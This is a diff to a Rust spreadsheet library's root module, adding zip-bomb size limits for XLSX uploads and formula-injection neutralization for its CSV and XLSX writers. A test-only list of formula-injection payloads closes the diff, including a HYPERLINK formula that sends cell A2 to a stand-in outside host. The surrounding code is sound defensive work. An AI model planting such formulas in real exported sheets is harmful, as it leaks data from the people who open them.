@@ -9,22 +9,36 @@
 //!
 //! Every reader works within explicit [`Limits`] and answers a Chinese [`SheetError`] naming
 //! the limit it hit; no input makes it panic (property tests and the `sheet` and
-//! `ledger_sheet` fuzz targets).
+//! `ledger_sheet` fuzz targets). An XLSX file is inflated once, streamed and counted, before
+//! the workbook parser sees it (real bytes, not the sizes the ZIP declares; see
+//! [`Limits::max_inflated_bytes`]).
+//!
+//! Every writer is safe from formula injection: the one CSV writer ([`write_csv`]) gives a
+//! leading `'` to any cell a spreadsheet would evaluate ([`formula::is_formula_like`]), and
+//! [`read_csv`] takes it off again; the XLSX writers store such text unchanged with the cell
+//! format's quote prefix. [`audit::formula_cells`] lists the cells of a file that a
+//! spreadsheet would evaluate, for tests of every export.
 
+pub mod audit;
 mod csv_io;
 mod error;
+pub mod formula;
 pub mod ledger;
 pub mod org;
 mod table;
+mod xlsx_guard;
 mod xlsx_io;
 
+pub use audit::formula_cells;
 pub use csv_io::{read_csv, write_csv};
-pub use error::SheetError;
+pub use error::{SheetError, INFLATED_PART, INFLATED_TOTAL, XML_TAG, XML_TEXT};
+pub use formula::{is_formula_like, neutralize, unneutralize};
 pub use ledger::{
     export_csv, export_xlsx, headers, parse_import, problems_csv, template_xlsx, template_xlsx_for,
     ImportedRow, LedgerSheetError, RowProblem, MAX_IMPORT_ROWS,
 };
 pub use table::{normalize_header, Table};
+pub use xlsx_guard::{xml_text_limit, MAX_XML_TAG_BYTES, MIN_XML_TEXT_BYTES};
 pub use xlsx_io::{read_xlsx, write_xlsx};
 
 /// One row of a sheet: its 1-based line (CSV: the line the record starts on; XLSX: the row
@@ -49,6 +63,19 @@ impl Row {
 
 /// What a reader accepts at most. The defaults suit an organisation list or a year of
 /// ledger records of a province (tens of thousands of rows).
+///
+/// | field | default |
+/// | --- | --- |
+/// | `max_bytes` | 20 MB |
+/// | `max_rows` | 200,000 |
+/// | `max_columns` | 100 |
+/// | `max_cell_chars` | 10,000 |
+/// | `max_inflated_bytes` | 128 MB ([`DEFAULT_MAX_INFLATED_BYTES`]) |
+/// | `max_inflated_part_bytes` | 96 MB ([`DEFAULT_MAX_INFLATED_PART_BYTES`]) |
+///
+/// Of an XLSX file, every XML part is also lexed while it is inflated: one text node (the
+/// bytes between two tags) may hold at most [`xml_text_limit`] bytes, one tag
+/// [`MAX_XML_TAG_BYTES`], so the workbook parser never buffers a huge event.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Limits {
     /// Size of the file as uploaded.
@@ -59,7 +86,28 @@ pub struct Limits {
     pub max_columns: usize,
     /// Characters of one cell.
     pub max_cell_chars: usize,
+    /// XLSX: bytes of all the parts of the workbook once inflated, together. Counted while
+    /// inflating (the sizes a ZIP declares are checked too, but may lie).
+    pub max_inflated_bytes: u64,
+    /// XLSX: bytes of one part (a worksheet, the shared strings …) once inflated.
+    pub max_inflated_part_bytes: u64,
 }
+
+/// The default of [`Limits::max_inflated_bytes`]: 128 MB.
+///
+/// Measured: the ledger export (rust_xlsxwriter) of 20,000 records ([`MAX_IMPORT_ROWS`]) of
+/// the widest kind, 重大行政决策 (18 columns), with every field filled, distinct texts of 60
+/// characters and long texts of 300 characters, is a 20.3 MB file that inflates to
+/// 82.6 MB (shared strings 68.1 MB, the sheet 14.4 MB); the same records of 学法 inflate
+/// to 31.8 MB. 128 MB leaves half as much again above the widest case, and is about what
+/// an upload of the 20 MB `max_bytes` can inflate to when it holds real Chinese text. The
+/// cap used to be 40 times the file size (800 MB), which let an 0.8 MB upload take the
+/// server's memory past 1 GB.
+pub const DEFAULT_MAX_INFLATED_BYTES: u64 = 128 * 1024 * 1024;
+
+/// The default of [`Limits::max_inflated_part_bytes`]: 96 MB, above the 68.1 MB shared
+/// strings of the widest 20,000-record export measured for [`DEFAULT_MAX_INFLATED_BYTES`].
+pub const DEFAULT_MAX_INFLATED_PART_BYTES: u64 = 96 * 1024 * 1024;
 
 impl Default for Limits {
     fn default() -> Self {
@@ -68,6 +116,8 @@ impl Default for Limits {
             max_rows: 200_000,
             max_columns: 100,
             max_cell_chars: 10_000,
+            max_inflated_bytes: DEFAULT_MAX_INFLATED_BYTES,
+            max_inflated_part_bytes: DEFAULT_MAX_INFLATED_PART_BYTES,
         }
     }
 }
@@ -133,6 +183,20 @@ fn trim_trailing(cells: &mut Vec<String>) {
         cells.pop();
     }
 }
+
+/// The security review's formula payloads, for the tests of every writer.
+#[cfg(test)]
+pub(crate) const PAYLOADS: [&str; 9] = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    " =1",
+    "'=1",
+    "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
+];
 
 #[cfg(test)]
 mod tests {
